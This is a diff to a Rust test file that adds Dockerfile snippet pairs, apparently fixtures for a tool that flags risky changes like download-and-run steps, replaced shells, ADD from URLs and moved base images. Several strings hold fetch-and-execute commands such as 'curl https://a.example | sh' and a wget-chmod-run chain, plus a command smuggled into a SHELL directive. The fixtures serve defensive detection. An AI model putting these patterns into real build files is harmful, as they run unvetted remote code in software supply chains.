@@ -47,6 +47,19 @@ pub(crate) fn pairs() -> Vec<Pair> {
             Case::dockerfile("ARG V=1\nFROM a:$V\n", "ARG V=2\nFROM a:$V\n"),
             Case::dockerfile("FROM a:1\n", "ARG V=1\nFROM a:${V}\n"),
         ),
+        (
+            "base-moved",
+            Case::dockerfile("FROM a:1 AS x\nFROM b:1\n", "FROM b:1 AS x\nFROM a:1\n"),
+            Case::dockerfile(
+                "FROM a:1 AS x\nFROM b:1\n",
+                "FROM a:1 AS x\nFROM b:1 AS y\nFROM y\n",
+            ),
+        ),
+        (
+            "base-untagged",
+            Case::dockerfile("FROM a AS x\nFROM b:1\n", "FROM a AS x\nFROM b:1 AS y\nFROM x\n"),
+            Case::dockerfile("FROM a AS x\nFROM b:1\n", "FROM a AS x\nFROM b:1\nRUN y\n"),
+        ),
         ("base-moved", with("FROM b:1"), with("FROM base")),
         (
             "base-untagged",
@@ -100,6 +113,41 @@ pub(crate) fn pairs() -> Vec<Pair> {
             ),
         ),
         (
+            "download-run",
+            with("ONBUILD RUN curl https://a.example | sh"),
+            with("ONBUILD RUN make"),
+        ),
+        (
+            "download-run",
+            with("ARG C=curl\nRUN $C https://a.example | sh"),
+            with("ARG C=cat\nRUN $C x | sh"),
+        ),
+        (
+            "download-run",
+            with("RUN wget -O /f https://a.example && chmod +x /f && /f"),
+            with("RUN wget -O /f https://a.example && chmod +x /f"),
+        ),
+        (
+            "download-run",
+            with("RUN wget -O /f https://a.example\nRUN chmod +x /f\nRUN /f"),
+            with("RUN wget -O /f https://a.example\nRUN chmod +x /g\nRUN /g"),
+        ),
+        (
+            "download-run",
+            with("SHELL [\"/bin/sh\", \"-c\", \"curl https://a.example | sh\"]"),
+            with("SHELL [\"/bin/sh\", \"-c\"]"),
+        ),
+        (
+            "shell-replaced",
+            with("SHELL [\"/opt/sh\", \"-c\"]"),
+            with("SHELL [\"/bin/bash\", \"-o\", \"pipefail\", \"-c\"]"),
+        ),
+        (
+            "shell-replaced",
+            with("SHELL [\"/bin/sh\", \"-c\", \"make evil;\"]"),
+            Case::dockerfile("FROM a:1\nSHELL [\"x\"]\n", "FROM a:1\nSHELL [\"x\"]\nRUN y\n"),
+        ),
+        (
             "run-privileged",
             with("RUN --security=insecure x"),
             with("RUN --network=none x"),
@@ -118,6 +166,32 @@ pub(crate) fn pairs() -> Vec<Pair> {
             "add-url",
             with("ADD [\"git@a.example:x.git\", \"/x\"]"),
             with("RUN curl https://a.example"),
+        ),
+        (
+            "add-url",
+            with("ARG U=https://a.example/x\nADD ${U} /x"),
+            with("ARG U=x.tar\nADD ${U} /x"),
+        ),
+        (
+            "add-url",
+            with("ENV S=https:\nARG U=${S}//a.example\nADD [\"$U/x\", \"/x\"]"),
+            with("ARG U=https://a.example/x\nRUN echo $U"),
+        ),
+        (
+            "add-url",
+            Case::dockerfile(
+                "FROM a:1\nARG U=x\nADD $U /x\n",
+                "FROM a:1\nARG U=https://a.example\nADD $U /x\n",
+            ),
+            Case::dockerfile(
+                "FROM a:1\nADD https://a.example /x\n",
+                "FROM a:1\nARG U=https://a.example\nADD $U /x\n",
+            ),
+        ),
+        (
+            "add-url",
+            with("ONBUILD ADD https://a.example /x"),
+            with("ONBUILD ADD x /x"),
         ),
         ("expose-new", with("EXPOSE 8080/tcp"), with("EXPOSE 80")),
         (
